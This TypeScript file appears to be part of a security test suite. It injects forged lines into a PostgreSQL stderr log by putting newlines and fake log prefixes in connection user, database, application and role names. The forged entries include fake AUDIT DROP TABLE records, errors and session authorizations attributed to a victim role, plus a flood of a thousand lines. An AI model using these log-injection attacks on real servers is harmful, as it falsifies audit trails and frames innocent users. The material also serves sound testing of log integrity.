import { type Answer, knock, MAX_NAME, message, repeat, wrongPassword } from './packets.ts';
import { ADMIN, MALLORY, type PostgresAttack, type PostgresPlace, passwordOf } from './place.ts';

/**
 * Point 3: user and database of the start-up packet stand raw in the prefix of the stderr log, 63 bytes each, line ends included.
 * Between the two the server writes `,db=`, behind them `,app=[unknown],client=…,session=…] FATAL:  …`.
 */

const MANY = 1_000;
const GUESSES = 20;

const stamp = (): string => `${new Date().toISOString().slice(0, 19).replace('T', ' ')} UTC`;
/** The user: ends the line that it stands in, and begins one of the victim. */
const newLine = (role: string, pid: number | string = 1): string => `\n${stamp()} [${pid}] [user=${role}`;
const session = (pid: number, start: number): string => `${Math.floor(start / 1000).toString(16)}.${pid.toString(16)}`;
/** The rest of a prefix, from behind `,db=` on. */
const rest = (id = '1.1', client = ''): string => `,app=,client=${client},session=${id}] `;
const DROP = 'LOG:  AUDIT: SESSION,1,1,W,DROP,,,,';

/** One connection with these names; it is refused before it is asked for a password. */
async function forge(
  { port }: PostgresPlace,
  user: string,
  database: string,
  answers: readonly Answer[] = [refusal],
): Promise<string> {
  for (const name of [user, database]) {
    if (Buffer.byteLength(name) > MAX_NAME) throw new RangeError(`the server would cut off ${JSON.stringify(name)}`);
  }
  return knock(port, { user, database }, answers);
}
const refusal: Answer = () => message('Q', Buffer.from('SELECT 1\0'));

const lines = (attack: string, times: number, forged: (role: string) => readonly [user: string, database: string]) => ({
  ...({ attack, point: 3, attacker: 'nothing' } as const),
  async run(place: PostgresPlace, role: string) {
    await repeat(times, () => forge(place, ...forged(role)));
    return times;
  },
});

export const STDERR_LINES: readonly PostgresAttack[] = [
  lines('a second line with an AUDIT message', 1, (role) => [newLine(role), `${rest()}${DROP}`]),
  lines('the prefix closed on the first line', 1, (role) => [
    `${role},db=${rest()}LOG:  AUDIT: SESSION,1,1,W`,
    'DROP TABLE,TABLE,public.payment_cards,x,<none>',
  ]),
  lines('a FATAL of a session that never was', 20, (role) => [
    newLine(role),
    `${rest('1.1', '9.9.9.9')}FATAL:  out of memory`,
  ]),
  lines('an ERROR of a denied statement', 20, (role) => [
    newLine(role),
    `${rest('1.1', '9.9.9.9')}ERROR:  permission denied`,
  ]),
  lines('an AUDIT message that goes on behind a line end and a tab', 1, (role) => [
    newLine(role),
    `${rest()}LOG:  AUDIT: SESSION,1,1,W,D,\n\t,,,`,
  ]),
  {
    ...{ attack: 'a session that is authorized by a forged line first', point: 3, attacker: 'nothing' },
    async run(place, role) {
      await forge(place, newLine(role), `${rest()}LOG:  connection authorized: user`);
      await forge(place, newLine(role), `${rest()}${DROP}`);
      return 2;
    },
  },
  {
    ...{ attack: 'an ERROR and its STATEMENT, in two lines', point: 3, attacker: 'nothing' },
    async run(place, role) {
      await forge(place, newLine(role), `${rest('1.1', '9.9.9.9')}ERROR:  permission denied`);
      await forge(place, newLine(role), `${rest()}STATEMENT:  DROP TABLE invoices`);
      return 2;
    },
  },
  {
    ...{ attack: 'the process and the session that it will get itself', point: 3, attacker: 'a database role' },
    async run(place, role) {
      for (let guess = 0; guess < GUESSES; guess++) {
        const { rows } = await place.as(MALLORY, (own) => own.query('SELECT pg_backend_pid() AS pid'));
        const pid = Number(rows[0]?.pid) + 1;
        // What follows in the line fills the fields of the AUDIT message up; the commas come with the server's own words.
        const database = `${rest(session(pid, Date.now()))}LOG:  AUDIT: SESSION,1,1`;
        await forge(place, `,,,${newLine(role, pid)}`, database, wrongPassword());
      }
      return GUESSES;
    },
  },
  {
    ...{ attack: 'an application name that looks like the rest of a line', point: 3, attacker: 'a database role' },
    heldBefore: 'the application stands behind the user, and the server keeps line ends out of it',
    async run(place, role) {
      const names = [`x${rest().slice(5)}${DROP}`, `\n${stamp()} [1] [user=${role},db=${rest()}`];
      for (const name of names) await place.as(MALLORY, (own) => own.query('SELECT id FROM invoices'), name);
      return names.length;
    },
  },
  {
    ...{ attack: 'a role whose name begins a line of the victim', point: 3, attacker: 'a database role' },
    async run(place, role) {
      const name = newLine(role);
      await place.as(ADMIN, (own) => own.query(`CREATE ROLE "${name}" LOGIN PASSWORD '${passwordOf(name)}'`));
      await place.as(name, (own) => own.query('CREATE TEMP TABLE of_the_attacker (id int)'));
      return 1;
    },
  },
  {
    ...{ attack: 'the whole prefix of a session that runs', point: 3, attacker: 'a database role' },
    mayBeFound: 'the line is the same as the server would have written',
    async run(place, role) {
      await place.as(role, (victim) => forgeRunning(place, role, victim.query('SELECT id FROM invoices')), 'a');
      return GUESSES + 1;
    },
  },
  lines('a flood of forged lines', MANY, (role) => [newLine(role), `${rest()}${DROP}`]),
];

async function forgeRunning(place: PostgresPlace, role: string, worked: Promise<unknown>): Promise<void> {
  await worked;
  const seen = await place.as(MALLORY, (own) =>
    own.query(
      'SELECT pid, extract(epoch FROM backend_start) * 1000 AS start FROM pg_stat_activity WHERE usename = $1',
      [role],
    ),
  );
  const pid = Number(seen.rows[0]?.pid);
  const id = session(pid, Number(seen.rows[0]?.start));
  const error = `appdb,app=a,client=127.0.0.1,session=${id}] ERROR:  x`;
  await repeat(GUESSES, () => forge(place, newLine(role, pid), error));
  await forge(place, `,,,${newLine(role, pid)}`, `${rest(id)}LOG:  AUDIT: SESSION,1,1`, wrongPassword());
}
